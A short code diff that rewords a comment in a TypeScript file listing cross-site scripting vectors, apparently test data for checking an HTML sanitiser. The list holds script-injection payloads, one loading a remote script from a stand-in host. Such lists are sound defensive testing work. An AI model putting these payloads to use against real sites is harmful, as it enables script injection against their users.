@@ -1,4 +1,4 @@
-/** Ways to smuggle a script through a sanitizer. */
+/** Ways to smuggle a script past a sanitiser. */
 export const XSS_VECTORS: readonly string[] = [
   '<script>alert(1)</script>',
   '<ScRiPt src=//evil.test/x.js></sCrIpT>',
